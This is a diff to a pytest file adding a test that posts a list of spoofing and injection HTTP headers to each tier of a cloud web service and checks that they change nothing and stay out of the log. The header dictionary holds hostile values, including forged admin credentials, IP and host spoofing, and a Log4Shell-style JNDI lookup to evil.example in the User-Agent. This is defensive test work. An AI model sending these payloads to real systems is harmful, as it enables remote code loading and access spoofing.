@@ -123,3 +123,46 @@ def test_a_running_tier_refuses_it(attack: HttpAttack, tier: str, attacked: Clou
     with target.connect() as connection:
         assert statuses_of(reply_to(connection, ground_of(target).request(), only_one=True)) == [200]
     assert attacked.changes(before)
+
+
+MEANINGLESS = {
+    "X-HTTP-Method-Override": "DELETE",
+    "X-Method-Override": "GET",
+    "X-Forwarded-For": "203.0.113.7",
+    "X-Real-IP": "203.0.113.7",
+    "Forwarded": "for=203.0.113.7;proto=https",
+    "X-Forwarded-Proto": "https",
+    "X-Forwarded-Host": "evil.example",
+    "X-Original-URL": "/services/Enrol",
+    "X-Rewrite-URL": "/services/Enrol",
+    "X-Amz-Date": "20110615T000000Z",
+    "X-Euca-User": "admin",
+    "EffectiveUserId": "eucalyptus",
+    "Authorization": "Basic YWRtaW46YWRtaW4=",
+    "Cookie": "session=admin",
+    "Range": "bytes=0-10",
+    "If-None-Match": "*",
+    "Accept-Encoding": "gzip",
+    "Accept": "application/json",
+    "Content-Language": "x",
+    "Content-MD5": "AAAAAAAAAAAAAAAAAAAAAA==",
+    "Origin": "https://evil.example",
+    "User-Agent": "<script>${jndi:ldap://evil.example/x}",
+    "TE": "trailers",
+    "Via": "1.1 evil",
+}
+
+
+@pytest.mark.case("HTTP headers: those that mean nothing here")
+@pytest.mark.parametrize("tier", TIERS)
+def test_headers_that_mean_nothing_here(tier: str, attacked: Cloud) -> None:
+    """The message counts as it was signed, whoever and whatever they say it is; and none of it reaches the log."""
+    target = attacked.targets[tier]
+    for name, value in MEANINGLESS.items():
+        before = attacked.snapshot()
+        reply = target.post(make(good_draft(target.door)), {name: value})
+        assert reply.status == 200, name
+        assert reply.body.startswith(b"<soap:Envelope") and "Content-Encoding" not in reply.headers, name
+        assert attacked.changes(before), name
+    log = target.log.read_text()
+    assert "203.0.113.7" not in log and "jndi" not in log
